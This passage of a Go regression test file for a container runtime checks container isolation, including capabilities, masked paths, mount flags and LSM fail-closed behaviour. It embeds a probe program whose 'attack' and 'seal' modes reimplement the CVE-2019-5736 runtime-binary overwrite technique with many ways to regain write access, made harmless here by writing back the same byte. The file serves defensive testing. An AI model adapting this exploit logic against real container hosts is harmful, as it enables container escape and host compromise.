	if strings.Contains(out, "victim") || !strings.HasPrefix(out, "/dev/pts/ptmx\n") {
		t.Fatalf("container /dev/ptmx does not lead to its devpts:\n%s", out)
	}
}

// CVE-2022-29162: runc gave the container process inheritable capabilities
// by default, so an exec of a file with inheritable file caps gained them.
// Without configuration CapInh and CapAmb must be 0; ambient only when
// configured; NoNewPrivs follows process.noNewPrivileges.
func TestEscapeCapsAndNoNewPrivs(t *testing.T) {
	status := func(t *testing.T, mutate func(*rspec.Spec)) map[string]string {
		b := newBundle(t, []string{"grep", "-E", "^(CapInh|CapAmb|CapEff|NoNewPrivs)", "/proc/self/status"}, mutate)
		m := map[string]string{}
		for _, l := range strings.Split(b.mustRun(), "\n") {
			if k, v, ok := strings.Cut(l, ":"); ok {
				m[k] = strings.TrimSpace(v)
			}
		}
		return m
	}
	def := status(t, nil)
	if def["CapInh"] != "0000000000000000" || def["CapAmb"] != "0000000000000000" || def["NoNewPrivs"] != "1" {
		t.Errorf("default spec: %v", def)
	}
	noNNP := status(t, func(s *rspec.Spec) { s.Process.NoNewPrivileges = false })
	if noNNP["NoNewPrivs"] != "0" || noNNP["CapInh"] != "0000000000000000" {
		t.Errorf("noNewPrivileges=false: %v", noNNP)
	}
	// CAP_KILL is bit 5.
	amb := status(t, func(s *rspec.Spec) {
		s.Process.Capabilities.Inheritable = []string{"CAP_KILL"}
		s.Process.Capabilities.Ambient = []string{"CAP_KILL"}
		s.Process.User = rspec.User{UID: 1000, GID: 1000}
	})
	if amb["CapInh"] != "0000000000000020" || amb["CapAmb"] != "0000000000000020" || amb["CapEff"] != "0000000000000020" {
		t.Errorf("ambient CAP_KILL for uid 1000: %v", amb)
	}
}

// Masked paths must read empty (or be denied) and readonly paths must not be
// writable; default mounts carry nosuid/nodev/noexec/ro as the default spec
// asks. A runtime that skips masking shows /proc/kcore content or
// /sys/firmware entries; one that drops mount flags shows them in
// mountinfo without the flag.
func TestEscapeMaskedReadonlyMountFlags(t *testing.T) {
	b := newBundle(t, []string{"sh", "-c", `for p in /proc/keys /proc/timer_list; do printf '%s %s\n' $p $(cat $p 2>/dev/null | wc -c); done
printf 'firmware %s\n' $(ls -A /sys/firmware 2>/dev/null | wc -l)
echo x > /proc/sys/kernel/hostname 2>/dev/null && echo ro-broken || echo ro-ok
echo ===; cat /proc/self/mountinfo`}, nil)
	out := b.mustRun()
	res, mi, _ := strings.Cut(out, "===")
	for _, l := range strings.Split(strings.TrimSpace(res), "\n") {
		f := strings.Fields(l)
		if len(f) == 2 && f[1] != "0" {
			t.Errorf("masked path not hidden: %s", l)
		}
	}
	if !strings.Contains(res, "ro-ok") {
		t.Errorf("readonly /proc/sys writable:\n%s", res)
	}
	for _, m := range b.spec.Mounts {
		var want []string
		for _, o := range m.Options {
			switch o {
			case "nosuid", "nodev", "noexec", "ro":
				want = append(want, o)
			}
		}
		opts, ok := escMountOpts(mi, m.Destination)
		if !ok {
			t.Errorf("%s not mounted", m.Destination)
			continue
		}
		for _, w := range want {
			if !opts[w] {
				t.Errorf("%s lacks %s (options %v)", m.Destination, w, opts)
			}
		}
	}
	if opts, ok := escMountOpts(mi, "/proc/sys"); !ok || !opts["ro"] {
		t.Errorf("readonly path /proc/sys is not a read-only mount: %v", opts)
	}
}

// AppArmor and SELinux: this host has neither. A requested AppArmor
// profile or SELinux label must fail closed with an error naming the field
// (runc does both: "apparmor failed to apply profile", "selinux label is
// specified in config, but selinux is disabled or not supported"): a user
// who asked for confinement must not silently run unconfined. Nothing may
// be left behind (the bundle cleanup checks).
// A mount label only labels files; without SELinux it is ignored with a
// warning (as crun does), while process labels and profiles are refused.
func TestMountLabelWithoutSELinuxWarns(t *testing.T) {
	if escExists("/sys/fs/selinux/enforce") {
		t.Skip("host has SELinux")
	}
	b := newBundle(t, []string{"true"}, func(s *rspec.Spec) { s.Linux.MountLabel = "system_u:object_r:container_file_t:s0" })
	_, errs, code := b.run()
	if code != 0 || !strings.Contains(errs, "linux.mountLabel: ignored") {
		t.Fatalf("exit %d, stderr %q", code, errs)
	}
}

func TestEscapeLSMRequestedWithoutLSM(t *testing.T) {
	if escExists("/sys/kernel/security/apparmor") || escExists("/sys/fs/selinux/enforce") {
		t.Skip("host has an LSM; this test covers hosts without one")
	}
	for _, c := range []struct {
		name   string
		mutate func(*rspec.Spec)
		fields []string // the error names one of these
	}{
		{"apparmor", func(s *rspec.Spec) { s.Process.ApparmorProfile = "myrun-test-profile" }, []string{"apparmor"}},
		{"selinux-process", func(s *rspec.Spec) { s.Process.SelinuxLabel = "system_u:system_r:container_t:s0" }, []string{"selinux"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBundle(t, []string{"true"}, c.mutate)
			_, errs, code := b.run()
			if code == 0 {
				t.Fatalf("%s requested on a host without it: container ran unconfined without an error", c.name)
			}
			named := false
			for _, f := range c.fields {
				named = named || strings.Contains(strings.ToLower(errs), f)
			}
			if !named {
				t.Fatalf("error does not name any of %v: %s", c.fields, errs)
			}
		})
	}
}

// ---- helpers (prefix esc) ----

// escChownTree gives a rootfs to a mapped id, as an image unpacked for a
// user namespace would be (symlinks themselves, not their targets).
func escChownTree(t testing.TB, root string, uid, gid int) {
	t.Helper()
	err := filepath.Walk(root, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, uid, gid)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// escUserns adds a user namespace mapping container ids 0..size-1 to host
// ids from host.
func escUserns(s *rspec.Spec, host, size uint32) {
	s.Linux.Namespaces = append(s.Linux.Namespaces, rspec.LinuxNamespace{Type: rspec.UserNamespace})
	s.Linux.UIDMappings = []rspec.LinuxIDMapping{{ContainerID: 0, HostID: host, Size: size}}
	s.Linux.GIDMappings = []rspec.LinuxIDMapping{{ContainerID: 0, HostID: host, Size: size}}
}

// escRun runs bin with extra fds (fd 3 onwards) and returns stdout, stderr
// and the exit code; output goes through files so a detached container
// holding them open does not block.
func escRun(t testing.TB, bin string, extra []*os.File, args ...string) (string, string, int) {
	return escRunEnv(t, bin, extra, nil, nil, args...)
}

// escRunEnv is escRun with an environment and credentials (nil: inherit).
func escRunEnv(t testing.TB, bin string, extra []*os.File, env []string, cred *escCred, args ...string) (string, string, int) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.ExtraFiles = extra
	if env != nil {
		cmd.Env = env
	}
	if cred != nil {
		cred.apply(cmd)
	}
	return runCmd(t, 60*time.Second, cmd)
}

// escCopyMyrun gives the test a private copy of the runtime binary, so an
// attack that works damages only the copy and other tests running myrun
// cannot keep the file busy (ETXTBSY).
func escCopyMyrun(t testing.TB) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "myrun")
	escInstall(t, myrun, dst)
	return dst
}

func escInstall(t testing.TB, src, dst string) {
	t.Helper()
	raw, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, raw, 0o755); err != nil {
		t.Fatal(err)
	}
}

func escSHA256(t testing.TB, p string) string {
	t.Helper()
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	io.Copy(h, f)
	return fmt.Sprintf("%x", h.Sum(nil))
}

func escExists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

func escWaitFor(t testing.TB, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

type escWriteResult struct {
	wroteHost bool
	desc      string
}

// escTryWrite reopens an O_PATH handle for writing, as the CVE-2019-5736
// exploit does, retrying while the file is busy. If the reopen works it
// writes back the first byte (harmless) and reports whether that write hit
// the file at hostPath.
func escTryWrite(opath int, hostPath string, busyFor time.Duration) escWriteResult {
	p := fmt.Sprintf("/proc/self/fd/%d", opath)
	deadline := time.Now().Add(busyFor)
	var fd int
	var err error
	for {
		fd, err = unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != unix.ETXTBSY || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if err != nil {
		return escWriteResult{desc: fmt.Sprintf("reopen refused: %v", err)}
	}
	defer unix.Close(fd)
	var st, host unix.Stat_t
	unix.Fstat(fd, &st)
	unix.Stat(hostPath, &host)
	same := st.Dev == host.Dev && st.Ino == host.Ino
	b := make([]byte, 1)
	if _, err := unix.Pread(fd, b, 0); err != nil {
		return escWriteResult{desc: fmt.Sprintf("reopened (host file: %v) but read failed: %v", same, err)}
	}
	if _, err := unix.Pwrite(fd, b, 0); err != nil {
		return escWriteResult{desc: fmt.Sprintf("reopened (host file: %v) but write refused: %v", same, err)}
	}
	return escWriteResult{wroteHost: same, desc: fmt.Sprintf("reopened and wrote (host file: %v)", same)}
}

// escHasMount reports whether mountinfo text has a mount at mp (with fstype
// when not empty).
func escHasMount(mountinfo, mp, fstype string) bool {
	for _, l := range strings.Split(mountinfo, "\n") {
		pre, post, ok := strings.Cut(l, " - ")
		f := strings.Fields(pre)
		if !ok || len(f) < 5 || f[4] != mp {
			continue
		}
		if fstype == "" || strings.HasPrefix(post, fstype+" ") {
			return true
		}
	}
	return false
}

// escMountOpts returns the per-mount options of the last mount at mp.
func escMountOpts(mountinfo, mp string) (map[string]bool, bool) {
	var opts map[string]bool
	for _, l := range strings.Split(mountinfo, "\n") {
		f := strings.Fields(l)
		if len(f) < 6 || f[4] != mp {
			continue
		}
		opts = map[string]bool{}
		for _, o := range strings.Split(f[5], ",") {
			opts[o] = true
		}
	}
	return opts, opts != nil
}

// escProbe builds the static in-container probe (see escProbeSrc) into the
// test's temp dir and returns its path.
func escProbe(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "probe.go"), []byte(escProbeSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "probe")
	cmd := exec.Command("go", "build", "-o", out, "-tags", "netgo,osusergo", "probe.go")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GO111MODULE=on", "GOWORK=off")
	if raw, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build probe: %v: %s", err, raw)
	}
	return out
}

// escProbeSrc is a static program run inside containers. Modes:
//
//	fds                    print "N target" per open fd (readlink only, so
//	                       the probe opens nothing itself)
//	cwd                    print getcwd and "inside"/"outside" by walking ".."
//	stat P...              print "P char MAJ:MIN" / "P file" / "P missing"
//	attack R S OUT SECS    CVE-2019-5736 attacker: watch /proc for processes
//	                       not running busybox or the probe, take O_PATH on
//	                       their exe, then reopen for writing and write back
//	                       one byte; R: ready file, S: stop file, OUT: report
//	seal R S OUT SECS      CVE-2019-5736 against the seal: as attack, but on
//	                       catching a process it takes its exe, map_files and
//	                       fds of the binary and tries every way to make them
//	                       writable (mount_setattr, open_tree clones,
//	                       fsconfig reconfigure, bind and superblock remounts)
//	                       itself and in helpers of its own mount and
//	                       user+mount namespaces (sealhelper), retrying the
//	                       write until the stop file and a grace period
const escProbeSrc = `// Go's runtime would otherwise keep cgroup cpu files open for GOMAXPROCS.
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"
)

const oPath = 0x200000 // O_PATH, missing from package syscall

func main() {
	switch os.Args[1] {
	case "fds":
		buf := make([]byte, 4096)
		for n := 0; n < 4096; n++ {
			k, err := syscall.Readlink("/proc/self/fd/"+strconv.Itoa(n), buf)
			if err == nil {
				fmt.Printf("%d %s\n", n, buf[:k])
			}
		}
	case "cwd":
		buf := make([]byte, 4096)
		n, err := syscall.Getcwd(buf)
		if err != nil || n < 1 {
			n = 1
		}
		n-- // trailing NUL
		fmt.Printf("getcwd %q %v\n", buf[:n], err)
		fmt.Println(where())
	case "stat":
		for _, p := range os.Args[2:] {
			var st syscall.Stat_t
			if err := syscall.Stat(p, &st); err != nil {
				fmt.Printf("%s missing %v\n", p, err)
				continue
			}
			if st.Mode&syscall.S_IFMT == syscall.S_IFCHR {
				fmt.Printf("%s char %d:%d\n", p, (st.Rdev>>8)&0xfff, (st.Rdev&0xff)|((st.Rdev>>12)&0xfff00))
			} else {
				fmt.Printf("%s other mode %o\n", p, st.Mode)
			}
		}
	case "seal":
		secs, _ := strconv.Atoi(os.Args[5])
		seal(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
	case "sealhelper":
		sealHelper(os.Args[2], os.Args[3])
	case "attack":
		secs, _ := strconv.Atoi(os.Args[5])
		attack(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
	}
}

func where() string {
	var root syscall.Stat_t
	syscall.Stat("/", &root)
	for i := 0; i < 512; i++ {
		var cur, up syscall.Stat_t
		if syscall.Stat(".", &cur) != nil {
			return "unknown"
		}
		if cur.Dev == root.Dev && cur.Ino == root.Ino {
			return "inside"
		}
		syscall.Stat("..", &up)
		if up.Dev == cur.Dev && up.Ino == cur.Ino {
			return "outside"
		}
		if syscall.Chdir("..") != nil {
			return "unknown"
		}
	}
	return "outside"
}

type cand struct {
	pid  int
	link string
	fd   int
}

func attack(ready, stop, out string, d time.Duration) {
	rep, err := os.Create(out)
	if err != nil {
		os.Exit(1)
	}
	say := func(f string, a ...any) { fmt.Fprintf(rep, f+"\n", a...); rep.Sync() }
	self := os.Getpid()
	selfExe, _ := os.Readlink("/proc/self/exe")
	seen := map[string]bool{}
	var cands []cand
	deadline := time.Now().Add(d)
	os.WriteFile(ready, nil, 0o644)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			link, err := os.Readlink(exe)
			key := e.Name() + " " + link
			if err != nil || seen[key] || link == selfExe || strings.HasSuffix(link, "busybox") {
				continue
			}
			seen[key] = true
			fd, err := syscall.Open(exe, oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				say("opath-failed %d %s %v", pid, link, err)
				continue
			}
			cands = append(cands, cand{pid, link, fd})
			say("caught %d %s", pid, link)
		}
		time.Sleep(time.Millisecond)
	}
	for _, c := range cands {
		p := "/proc/self/fd/" + strconv.Itoa(c.fd)
		var fd int
		var err error
		for {
			fd, err = syscall.Open(p, syscall.O_RDWR|syscall.O_CLOEXEC, 0)
			if err != syscall.ETXTBSY || time.Now().After(deadline) {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
		if err == syscall.ETXTBSY {
			say("busy %d %s", c.pid, c.link)
			continue
		}
		if err != nil {
			say("refused %d %s %v", c.pid, c.link, err)
			continue
		}
		var st syscall.Stat_t
		syscall.Fstat(fd, &st)
		b := make([]byte, 1)
		syscall.Pread(fd, b, 0)
		if _, err := syscall.Pwrite(fd, b, 0); err != nil {
			say("write-refused %d %s dev=%d ino=%d %v", c.pid, c.link, st.Dev, st.Ino, err)
		} else {
			say("wrote %d %s dev=%d ino=%d", c.pid, c.link, st.Dev, st.Ino)
		}
		syscall.Close(fd)
	}
	say("done")
}

// CVE-2019-5736 against a sealed runtime binary: every way a process in the
// container might regain write access to the file behind /proc/<pid>/exe
// of the runtime. Syscall numbers are the same on every architecture.
const (
	sysOpenTree     = 428
	sysMoveMount    = 429
	sysFsconfig     = 431
	sysFspick       = 433
	sysMountSetattr = 442

	openTreeClone   = 1
	atEmptyPath     = 0x1000
	attrRdonly      = 1
	fspickCloexec   = 1
	fspickEmptyPath = 8
	fsconfigSetFlag = 0
	fsconfigReconf  = 7
	moveMountFEmpty = 4
	ovlMagic        = 0x794c7630
	stRdonly        = 1
)

var (
	rep   *os.File
	repMu sync.Mutex
	noStr = []byte{0}
)

func say(f string, a ...any) {
	repMu.Lock()
	fmt.Fprintf(rep, f+"\n", a...)
	repMu.Unlock()
}

func errStr(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func sysErr(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func setattrClearRO(fd int) error {
	attr := [4]uint64{0, attrRdonly, 0, 0}
	_, _, e := syscall.Syscall6(sysMountSetattr, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), atEmptyPath, uintptr(unsafe.Pointer(&attr)), 32, 0)
	return sysErr(e)
}

func openTree(fd int) (int, error) {
	r, _, e := syscall.Syscall(sysOpenTree, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), openTreeClone|syscall.O_CLOEXEC|atEmptyPath)
	return int(r), sysErr(e)
}

// reconfigureRW asks the superblock under fd to become writable.
func reconfigureRW(fd int) error {
	r, _, e := syscall.Syscall(sysFspick, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), fspickCloexec|fspickEmptyPath)
	if e != 0 {
		return fmt.Errorf("fspick: %v", e)
	}
	fs := int(r)
	defer syscall.Close(fs)
	key := []byte("rw\x00")
	if _, _, e := syscall.Syscall6(sysFsconfig, uintptr(fs), fsconfigSetFlag, uintptr(unsafe.Pointer(&key[0])), 0, 0, 0); e != 0 {
		return fmt.Errorf("fsconfig rw: %v", e)
	}
	if _, _, e := syscall.Syscall6(sysFsconfig, uintptr(fs), fsconfigReconf, 0, 0, 0, 0); e != 0 {
		return fmt.Errorf("reconfigure: %v", e)
	}
	return nil
}

func moveMount(fd int, to string) error {
	p, _ := syscall.BytePtrFromString(to)
	_, _, e := syscall.Syscall6(sysMoveMount, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), uintptr(0xffffff9c), uintptr(unsafe.Pointer(p)), moveMountFEmpty, 0)
	return sysErr(e)
}

// sbReadOnly: only a superblock that is read-only itself is worth a
// reconfigure (the host's is writable already, and is left alone).
func sbReadOnly(fd int, mountCleared bool) bool {
	var s syscall.Statfs_t
	if syscall.Fstatfs(fd, &s) != nil {
		return false
	}
	return s.Type == ovlMagic || (mountCleared && s.Flags&stRdonly != 0)
}

type target struct {
	tag, what, route string
	fd               int
	path             string
	done             bool
	last             error
}

type attacker struct {
	tag    string
	attach string
	mu     sync.Mutex // ts, n
	ts     []*target
	n      int
	tryMu  sync.Mutex // one try at a time
}

func (a *attacker) add(what, route string, fd int, path string) {
	a.mu.Lock()
	a.ts = append(a.ts, &target{tag: a.tag, what: what, route: route, fd: fd, path: path})
	a.mu.Unlock()
}

// handle tries every mount-level way to make h writable, and queues each
// resulting view for write attempts.
func (a *attacker) handle(what string, h int) {
	a.add(what, "reopen", h, "")
	err := setattrClearRO(h)
	say("step %s %s setattr-handle %s", a.tag, what, errStr(err))
	if sbReadOnly(h, err == nil) {
		say("step %s %s reconfigure-handle %s", a.tag, what, errStr(reconfigureRW(h)))
	}
	c, err := openTree(h)
	say("step %s %s open_tree-clone %s", a.tag, what, errStr(err))
	if err != nil {
		return
	}
	a.add(what, "clone", c, "")
	err = setattrClearRO(c)
	say("step %s %s setattr-clone %s", a.tag, what, errStr(err))
	sbro := sbReadOnly(c, err == nil)
	if sbro {
		say("step %s %s reconfigure-clone %s", a.tag, what, errStr(reconfigureRW(c)))
	}
	if a.attach == "" {
		return
	}
	a.mu.Lock()
	a.n++
	p := a.attach + "/f" + strconv.Itoa(a.n)
	a.mu.Unlock()
	if f, err := os.Create(p); err == nil {
		f.Close()
	}
	// move_mount takes the clone out of its own namespace: clone again.
	c2, err := openTree(h)
	if err != nil {
		c2 = c
	}
	if err := moveMount(c2, p); err != nil {
		say("step %s %s move_mount %s", a.tag, what, errStr(err))
		return
	}
	say("step %s %s remount-bind %s", a.tag, what, errStr(syscall.Mount("", p, "", syscall.MS_REMOUNT|syscall.MS_BIND, "")))
	if sbro {
		say("step %s %s remount-sb %s", a.tag, what, errStr(syscall.Mount("", p, "", syscall.MS_REMOUNT, "")))
	}
	a.add(what, "attached", -1, p)
}

// try reopens every queued view for writing; a view that opens gets its
// first byte written back (harmless) and is reported.
func (a *attacker) try(final bool) {
	a.tryMu.Lock()
	defer a.tryMu.Unlock()
	a.mu.Lock()
	ts := append([]*target(nil), a.ts...)
	a.mu.Unlock()
	for _, t := range ts {
		if t.done {
			continue
		}
		p := t.path
		if p == "" {
			p = "/proc/self/fd/" + strconv.Itoa(t.fd)
		}
		fd, err := syscall.Open(p, syscall.O_RDWR|syscall.O_CLOEXEC, 0)
		if err != nil {
			t.last = err
			if final {
				state := "refused"
				if err == syscall.ETXTBSY {
					state = "busy"
				}
				say("%s %s %s %s %v", state, t.tag, t.what, t.route, err)
			}
			continue
		}
		t.done = true
		var st syscall.Stat_t
		syscall.Fstat(fd, &st)
		b := make([]byte, 1)
		syscall.Pread(fd, b, 0)
		if _, err := syscall.Pwrite(fd, b, 0); err != nil {
			say("write-refused %s %s %s dev=%d ino=%d %v", t.tag, t.what, t.route, st.Dev, st.Ino, err)
		} else {
			var sfs syscall.Statfs_t
			syscall.Fstatfs(fd, &sfs)
			link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			say("wrote %s %s %s dev=%d ino=%d mode=%o uid=%d fstype=%#x fsflags=%#x link=%q", t.tag, t.what, t.route, st.Dev, st.Ino, st.Mode, st.Uid, sfs.Type, sfs.Flags, link)
		}
		syscall.Close(fd)
	}
}

func (a *attacker) loop(done <-chan struct{}) {
	for {
		select {
		case <-done:
			a.try(true)
			return
		case <-time.After(5 * time.Millisecond):
			a.try(false)
		}
	}
}

// sealHelper runs in a namespace of its own (mount, or user+mount), gets
// handles from the main probe over fd 3 and attacks them from there.
func sealHelper(tag, out string) {
	var err error
	rep, err = os.OpenFile(out, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		os.Exit(1)
	}
	a := &attacker{tag: tag}
	if err := syscall.Mount("", "/", "", syscall.MS_REC|syscall.MS_PRIVATE, ""); err != nil {
		say("step %s - private %v", tag, err)
	} else if err := syscall.Mount("tmpfs", "/tmp", "tmpfs", 0, ""); err != nil {
		say("step %s - tmpfs %v", tag, err)
	} else {
		a.attach = "/tmp"
	}
	say("helper %s up uid=%d", tag, os.Getuid())
	done := make(chan struct{})
	loopDone := make(chan struct{})
	go func() { a.loop(done); close(loopDone) }()
	buf := make([]byte, 512)
	oob := make([]byte, syscall.CmsgSpace(64*4))
	for {
		n, oobn, _, _, err := syscall.Recvmsg(3, buf, oob, 0)
		if err != nil || n == 0 {
			break
		}
		what := string(buf[:n])
		msgs, _ := syscall.ParseSocketControlMessage(oob[:oobn])
		for _, m := range msgs {
			fds, _ := syscall.ParseUnixRights(&m)
			pid, names, _ := strings.Cut(what, ":")
			for i, name := range strings.Split(names, ",") {
				if i < len(fds) {
					a.handle(pid+":"+name, fds[i])
				}
			}
		}
	}
	close(done)
	<-loopDone
}

type helper struct {
	tag  string
	sock int
	cmd  *exec.Cmd
}

func seal(ready, stop, out string, d time.Duration) {
	var err error
	rep, err = os.OpenFile(out, os.O_CREATE|os.O_WRONLY|os.O_TRUNC|os.O_APPEND, 0o644)
	if err != nil {
		os.Exit(1)
	}
	self := os.Getpid()
	selfExe, _ := os.Readlink("/proc/self/exe")
	var helpers []*helper
	for _, h := range []struct {
		tag   string
		flags uintptr
	}{{"mntns", syscall.CLONE_NEWNS}, {"userns", syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS}} {
		sp, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_SEQPACKET|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			say("helper %s socketpair %v", h.tag, err)
			continue
		}
		cmd := exec.Command("/proc/self/exe", "sealhelper", h.tag, out)
		cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(sp[1]), "sock")}
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: h.flags}
		if h.flags&syscall.CLONE_NEWUSER != 0 {
			// No id maps (mapping uid 0 needs CAP_SETFCAP, which a
			// default container lacks): the helper keeps its capabilities
			// in the namespace through exec as ambient ones, as a C
			// attacker that unshares and does not exec would.
			cmd.SysProcAttr.AmbientCaps = []uintptr{0, 1, 2, 3, 19, 21} // CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER SYS_PTRACE SYS_ADMIN
		}
		err = cmd.Start()
		syscall.Close(sp[1])
		if err != nil {
			say("helper %s failed %v", h.tag, err)
			syscall.Close(sp[0])
			continue
		}
		helpers = append(helpers, &helper{h.tag, sp[0], cmd})
	}
	a := &attacker{tag: "main"}
	done := make(chan struct{})
	loopDone := make(chan struct{})
	go func() { a.loop(done); close(loopDone) }()
	seen := map[string]bool{}
	deadline := time.Now().Add(d)
	os.WriteFile(ready, nil, 0o644)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			base := "/proc/" + e.Name()
			link, err := os.Readlink(base + "/exe")
			key := e.Name() + " " + link
			if err != nil || seen[key] || link == selfExe || strings.HasSuffix(link, "busybox") {
				continue
			}
			seen[key] = true
			catch(a, helpers, pid, base, link)
		}
		time.Sleep(200 * time.Microsecond)
	}
	// The runtime has stopped executing its binary by now: a file that
	// was busy is free.
	time.Sleep(500 * time.Millisecond)
	for _, h := range helpers {
		syscall.Close(h.sock)
	}
	for _, h := range helpers {
		h.cmd.Wait()
	}
	close(done)
	<-loopDone
	say("done")
}

// catch takes every handle on the runtime's binary that pid offers: its
// exe, its file mappings and its fds of that size (a map_files entry may
// name another file than exe does: that is the point of trying it).
func catch(a *attacker, helpers []*helper, pid int, base, link string) {
	h, err := syscall.Open(base+"/exe", oPath|syscall.O_CLOEXEC, 0)
	if err != nil {
		say("opath-failed %d %s %v", pid, link, err)
		return
	}
	// pid may have exec'd its next program since its exe was read: the
	// handle is what counts.
	if now, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(h)); now != link {
		say("moved-on %d %s %s", pid, link, now)
		syscall.Close(h)
		return
	}
	var est syscall.Stat_t
	syscall.Fstat(h, &est)
	var sfs syscall.Statfs_t
	syscall.Fstatfs(h, &sfs)
	fdinfo, _ := os.ReadFile("/proc/self/fdinfo/" + strconv.Itoa(h))
	status, _ := os.ReadFile(base + "/status")
	cmdline, _ := os.ReadFile(base + "/cmdline")
	var ns, ppid string
	for _, l := range strings.Split(string(status), "\n") {
		if strings.HasPrefix(l, "NSpid:") || strings.HasPrefix(l, "PPid:") {
			if l[0] == 'N' {
				ns = strings.Join(strings.Fields(l)[1:], "/")
			} else {
				ppid = strings.Join(strings.Fields(l)[1:], "")
			}
		}
	}
	mnt := ""
	for _, l := range strings.Split(string(fdinfo), "\n") {
		if strings.HasPrefix(l, "mnt_id:") {
			mnt = strings.TrimSpace(l[7:])
		}
	}
	say("exeinfo %d fstype=%#x fsflags=%#x mnt=%s nspid=%s ppid=%s cmdline=%q", pid, sfs.Type, sfs.Flags, mnt, ns, ppid, strings.ReplaceAll(string(cmdline), "\x00", " "))
	hs, names := []int{h}, []string{"exe"}
	a.add(strconv.Itoa(pid)+":exe", "path", -1, base+"/exe")
	seen := map[[2]uint64]bool{}
	var nmaps, nfds int
	for _, dir := range []string{"map_files", "fd"} {
		ents, err := os.ReadDir(base + "/" + dir)
		if err != nil {
			say("step main %d %s %v", pid, dir, err)
		}
		for _, e := range ents {
			p := base + "/" + dir + "/" + e.Name()
			fd, err := syscall.Open(p, oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				say("step main %d %s-open %v", pid, dir, err)
				continue
			}
			var st syscall.Stat_t
			syscall.Fstat(fd, &st)
			id := [2]uint64{uint64(st.Dev), st.Ino}
			if st.Mode&syscall.S_IFMT != syscall.S_IFREG || st.Size != est.Size || st.Dev != est.Dev || st.Ino != est.Ino || seen[id] {
				syscall.Close(fd)
				continue
			}
			seen[id] = true
			what := strconv.Itoa(pid) + ":" + dir + ":" + e.Name()
			hs, names = append(hs, fd), append(names, dir+":"+e.Name())
			a.add(what, "path", -1, p)
			if dir == "fd" {
				nfds++
			} else {
				nmaps++
			}
		}
	}
	say("caught %d %s maps=%d fds=%d", pid, link, nmaps, nfds)
	a.try(false) // the paths under /proc/<pid> while pid is there
	for _, hp := range helpers {
		msg := strconv.Itoa(pid) + ":" + strings.Join(names, ",")
		if err := syscall.Sendmsg(hp.sock, []byte(msg), syscall.UnixRights(hs...), nil, 0); err != nil {
			say("step main %d send-%s %v", pid, hp.tag, err)
		}
	}
	for i, fd := range hs {
		a.handle(strconv.Itoa(pid)+":"+names[i], fd)
	}
}
`
